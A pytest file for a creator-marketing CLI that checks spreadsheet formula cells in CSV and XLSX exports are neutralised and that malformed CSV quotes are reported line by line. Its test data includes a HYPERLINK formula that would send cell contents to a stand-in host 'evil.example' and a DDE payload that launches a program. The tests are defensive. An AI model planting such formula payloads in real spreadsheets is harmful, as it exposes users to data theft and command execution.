"""CSV files cannot be bent (issue 11): exported text cells a spreadsheet would run as formulas
are neutralised (``--raw`` keeps them exact), imports warn about them and keep them as data,
and a stray quote neither swallows the rest of the file nor goes unreported: every report
accounts for every data line. Through the real CLI on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from sqlalchemy import text
from sqlmodel import select
from typer.testing import CliRunner

from agent.cli.main import app
from integrations.sources.csv_export import neutralise
from integrations.sources.csv_import import import_creators
from memory.db import session_scope
from memory.models import Account, Creator
from tests.conftest import SHARED

DATA = Path(__file__).parent / "data"
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
DDE = "+cmd|' /C calc'!A0"
TABBED = "\t=1+2"
HEADER = "platform,handle,display_name,followers,bio\n"


def _cell(value: str) -> str:
    return '"' + value.replace('"', '""') + '"'


DANGEROUS = (HEADER + f"instagram,evil,{_cell(HYPERLINK)},100,{_cell(DDE)}\n"
             f"instagram,tabby,Tabby,200,{_cell(TABBED)}\n"
             "instagram,plain,Plain Jane,300,-5\n")


@pytest.fixture
def db_args(engine, tmp_path: Path) -> list[str]:
    if engine.dialect.name == "sqlite":
        return ["--data-dir", str(tmp_path / "data"), "--database-url", engine.url.render_as_string(hide_password=False)]
    with engine.connect() as conn:
        schema = conn.execute(text("SELECT current_schema()")).scalar_one()
    url = engine.url.update_query_dict({"options": f"-csearch_path={schema}"})
    return ["--data-dir", str(tmp_path / "data"), "--database-url", url.render_as_string(hide_password=False)]


def _run(args: list[str]):
    if "import" in args:
        args = [*args, "--no-index"]
    result = CliRunner().invoke(app, args)
    if result.exception and not isinstance(result.exception, SystemExit):
        raise result.exception
    return result


def _import(db_args: list[str], ws: str, kind: str, path: Path) -> dict:
    result = _run([*db_args, "-w", ws, "import", kind, str(path), "--json"])
    return {**json.loads(result.stdout), "exit_code": result.exit_code, "stderr": result.stderr}


def _people(path: Path) -> dict[str, dict[str, str]]:
    return {r["handle"]: r for r in csv.DictReader(path.open(encoding="utf-8", newline=""))}


def _data_lines(path: Path, header_lines: int = 1) -> int:
    """Physical lines after the header that hold text (an independent count for the reports)."""
    lines = path.read_text(encoding="utf-8-sig").splitlines()
    return sum(1 for line in lines[header_lines:] if line.strip(" ,\t"))


# --- formula cells ---------------------------------------------------------------------------


@pytest.mark.parametrize("value", ["=1+2", "+cmd", "-2+3", "@SUM(A1)", "\tx", "\rx", "-", "-abc"])
def test_formula_like_text_gets_a_leading_quote(value: str) -> None:
    assert neutralise(value) == "'" + value
    assert neutralise(neutralise(value)) == "'" + value  # "'=" does not start with a trigger: idempotent


@pytest.mark.parametrize("value", ["-12.5", "+3", "-1e5", "-5%", "12", "", "Jane", "a=b"])
def test_numbers_and_plain_text_are_left_alone(value: str) -> None:
    assert neutralise(value) == value


def test_creators_export_neutralises_formulas_raw_keeps_them_and_reexport_is_stable(
    db_args: list[str], workspace_id: str, tmp_path: Path,
) -> None:
    src = tmp_path / "dangerous.csv"
    src.write_text(DANGEROUS, encoding="utf-8")
    assert _import(db_args, workspace_id, "creators", src)["inserted"] == 3
    safe, raw = tmp_path / "safe.csv", tmp_path / "raw.csv"
    _run([*db_args, "-w", workspace_id, "export", "creators", str(safe)])
    _run([*db_args, "-w", workspace_id, "export", "creators", str(raw), "--raw"])

    rows = _people(safe)
    assert rows["evil"]["display_name"] == "'" + HYPERLINK
    assert rows["evil"]["bio"] == "'" + DDE
    assert rows["tabby"]["bio"] == "'" + TABBED  # the tab survived the import
    assert rows["plain"]["bio"] == "-5" and rows["plain"]["followers"] == "300"  # numbers stay numbers
    exact = _people(raw)
    assert (exact["evil"]["display_name"], exact["evil"]["bio"], exact["tabby"]["bio"]) == (HYPERLINK, DDE, TABBED)

    # Imports keep text as it is, so a neutralised export imported elsewhere exports the same again.
    fresh = workspace_id + "b"
    assert _import(db_args, fresh, "creators", safe)["inserted"] == 3
    again = tmp_path / "again.csv"
    _run([*db_args, "-w", fresh, "export", "creators", str(again)])
    assert again.read_text(encoding="utf-8") == safe.read_text(encoding="utf-8")


def test_import_warns_once_about_formula_cells_and_keeps_a_leading_tab(sessions, workspace_id: str, tmp_path: Path) -> None:
    src = tmp_path / "dangerous.csv"
    src.write_text(DANGEROUS.replace("instagram,evil", "instagram,@evil"), encoding="utf-8")
    report = import_creators(sessions, workspace_id=workspace_id, path=src)
    formula_warnings = [w for w in report.warnings if "formulas" in w]
    # display name and bio of line 2, bio of line 3; "-5" is a number and "@evil" a handle.
    assert formula_warnings == [
        "3 cell(s) in dangerous.csv start with =, +, -, @, tab or CR, which spreadsheets run as formulas "
        "(line 2, 3): imported as they are; `kolpilot export` writes them with a leading ' "
        "(use --raw for the exact text)"]
    with session_scope(sessions) as s:
        bios = dict(s.exec(select(Account.handle, Creator.bio).join(Creator, Creator.id == Account.creator_id)
                           .where(Account.workspace_id == workspace_id)).all())
    assert bios == {"evil": DDE, "tabby": TABBED, "plain": "-5"}


def _metrics_store(tmp_path: Path) -> Path:
    from agent.runtime import Runtime
    from agent.settings import Settings
    from memory.models import AccountCreate, CreatorCreate
    from memory.repo.creators import upsert_creator_account
    from tools.registry import run_tool

    data = tmp_path / "data"
    rt = Runtime(Settings(_env_file=None, data_dir=data))
    rt.ensure_workspace("local")
    with session_scope(rt.sessions) as s:
        upsert_creator_account(s, workspace_id="local", creator=CreatorCreate(name="Sam"),
                               account=AccountCreate(platform="instagram", handle="skin.by.sam", followers=40_000))
    ctx = rt.tool_context(user_id="local", conversation_id="t")
    for name, args in [("create_campaign", {"name": "Glow Q3", "brand": "Lumière", "budget": {"amount": 5000}}),
                       ("add_to_campaign", {"campaign": "Glow Q3", "handles": ["@skin.by.sam"]}),
                       ("log_negotiation", {"handle": "skin.by.sam", "campaign": "Glow Q3", "kind": "accept", "amount": {"amount": 1000}}),
                       ("log_metrics", {"handle": "skin.by.sam", "campaign": "Glow Q3", "on": "2026-07-10",
                                        "impressions": 50_000, "clicks": 900, "conversions": 12, "revenue": {"amount": 600, "currency": "USD"}})]:
        out = run_tool(ctx, name, args)
        assert out.ok, out.error
    with session_scope(rt.sessions) as s:  # niches straight into the row: the import would split the comma
        person = s.exec(select(Creator).where(Creator.workspace_id == "local")).one()
        person.niches = ";".join([HYPERLINK, DDE, TABBED])
    rt.engine.dispose()
    return data


def _metrics_rows(path: Path) -> list[list[object]]:
    if path.suffix == ".csv":
        return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))
    from openpyxl import load_workbook

    ws = load_workbook(path).worksheets[0]
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)  # no live formula, raw or not
    return [[c.value for c in row] for row in ws.iter_rows()]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_metrics_export_neutralises_text_keeps_negative_numbers_and_raw_is_exact(tmp_path: Path, fmt: str) -> None:
    store = _metrics_store(tmp_path)
    base = ["--data-dir", str(store), "export", "metrics", "--campaign", "Glow Q3"]
    for raw in (False, True):
        out = tmp_path / f"glow-{raw}.{fmt}"
        res = CliRunner().invoke(app, [*base, str(out), "--by", "niche", *(["--raw"] if raw else [])])
        assert res.exit_code == 0, res.output
        header, *rows = _metrics_rows(out)
        keys = {r[0] for r in rows} - {"TOTAL"}
        expected = {HYPERLINK, DDE, TABBED}
        assert keys == (expected if raw else {"'" + k for k in expected})
        roi = rows[0][header.index("roi")]
        # 600 revenue on a 1000 fee: a negative ROI, written as a number, not as text.
        assert float(roi) == pytest.approx(-0.4)
        assert roi == "-0.4" if fmt == "csv" else isinstance(roi, float)


# --- broken quotes and accounting --------------------------------------------------------------

ROWS = {
    "creators": ("platform,handle,display_name,followers", "instagram,h{i},Name {i},{n}"),
    "posts": ("platform,handle,posted_at,url,caption", "instagram,h{i},2024-05-01,https://instagram.com/p/P{i},cap {n}"),
    "metrics": ("campaign,platform,handle,date,impressions", "Nope,instagram,h{i},2024-06-01,{n}"),
    "redemptions": ("code,orders,revenue,currency,date", "CODE{i},{i},10,USD,2024-06-01"),
}


def _fifty_rows(tmp_path: Path, kind: str, broken: str | None = None) -> Path:
    """A header and 50 rows; row 2 (line 3) replaced by ``broken``."""
    header, row = ROWS[kind]
    lines = [header] + [row.format(i=i, n=1000 + i) for i in range(1, 51)]
    if broken is not None:
        lines[2] = broken
    path = tmp_path / f"{kind}.csv"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


@pytest.mark.parametrize("kind", list(ROWS))
def test_an_unclosed_quote_rejects_its_line_and_the_rows_after_it_are_read(
    db_args: list[str], workspace_id: str, tmp_path: Path, kind: str,
) -> None:
    if kind == "posts":
        _import(db_args, workspace_id, "creators", _fifty_rows(tmp_path, "creators"))
    path = _fifty_rows(tmp_path, kind, broken='instagram,x,"Broken name,13000')
    report = _import(db_args, workspace_id, kind, path)
    assert report["exit_code"] == 0 and report["unread"] is None
    assert report["rows"] == 50 and report["lines"] == 50 == _data_lines(path)
    broken = [r for r in report["rejected"] if r["line"] == 3]
    assert len(broken) == 1 and broken[0]["reason"].startswith("unclosed quote")
    if kind in ("creators", "posts"):
        assert (report["inserted"], len(report["rejected"])) == (49, 1)
    else:  # unknown campaign / discount codes: rejected, but read and reported line by line
        assert [r["line"] for r in report["rejected"]] == list(range(2, 52))
    assert report["accounting"] == (
        f"all 50 data lines accounted for: {report['inserted']} imported + {len(report['rejected'])} rejected + "
        "0 duplicates + 0 unread")


def test_a_quote_closed_lines_later_does_not_swallow_the_rows_between(sessions, workspace_id: str, tmp_path: Path) -> None:
    path = _fifty_rows(tmp_path, "creators", broken='instagram,x,"Broken name,13000')
    text_ = path.read_text(encoding="utf-8").replace("instagram,h10,Name 10,1010", 'instagram,h10,"Name, 10",1010')
    path.write_text(text_, encoding="utf-8")
    report = import_creators(sessions, workspace_id=workspace_id, path=path)
    assert [r.line for r in report.rejected] == [3]
    assert "looks like a row" in report.rejected[0].reason
    assert (report.inserted, report.lines, report.accounted) == (49, 50, 50)


def test_a_file_the_reader_cannot_resynchronise_exits_non_zero_naming_the_unread_lines(
    db_args: list[str], workspace_id: str, tmp_path: Path,
) -> None:
    path = tmp_path / "hopeless.csv"
    path.write_text("platform,handle,display_name,followers\ninstagram,a,Ann,100\ninstagram,b,\"Bob,200\n"
                    "and more words\ninstagram,c,Cy,300\ninstagram,d,Di,400\n", encoding="utf-8")
    result = _run([*db_args, "-w", workspace_id, "import", "creators", str(path)])
    assert result.exit_code == 1
    assert "Not read: lines 4-6 (3 data lines)" in result.stdout
    assert "all 5 data lines accounted for: 1 imported + 1 rejected + 0 duplicates + 3 unread" in result.stdout
    assert result.stderr.strip().splitlines() == [
        "error: hopeless.csv: lines 4-6 were not read (cannot find where rows start again after the broken line 3); "
        "fix the quote and import the file again"]
    report = _import(db_args, workspace_id + "j", "creators", path)
    assert report["exit_code"] == 1 and report["unread"]["first"] == 4 and report["unread"]["lines"] == 3


@pytest.mark.parametrize(("kind", "path"), [
    ("creators", DATA / "creators_messy.csv"), ("posts", DATA / "posts.csv"), ("metrics", DATA / "metrics.csv"),
    ("creators", SHARED / "data" / "youtube_top1000_dec2022.csv"),
])
def test_every_report_accounts_for_every_data_line(db_args: list[str], workspace_id: str, kind: str, path: Path) -> None:
    extra = ["--platform", "youtube", "--map", "handle=Youtube channel"] if "youtube" in path.name else []
    result = _run([*db_args, "-w", workspace_id, "import", kind, str(path), "--json", *extra])
    report = json.loads(result.stdout)
    imported = report["inserted"] + report["updated"] + report["unchanged"]
    assert report["lines"] == _data_lines(path, header_lines=3 if "youtube" in path.name else 1)  # its header has 3
    assert (imported + len(report["rejected"]) + len(report["duplicates"]) + report["continuation_lines"]
            == report["lines"])
    assert report["accounting"].startswith(f"all {report['lines']} data lines accounted for")
